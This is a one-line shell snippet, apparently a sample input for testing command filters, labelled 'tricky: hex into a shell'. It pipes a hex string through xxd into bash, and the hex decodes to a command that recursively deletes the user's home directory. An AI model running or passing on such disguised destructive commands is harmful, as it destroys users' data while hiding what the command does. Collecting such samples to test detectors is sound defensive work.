# tricky: hex into a shell
echo 726d202d7266207e2f2a | xxd -r -p | bash
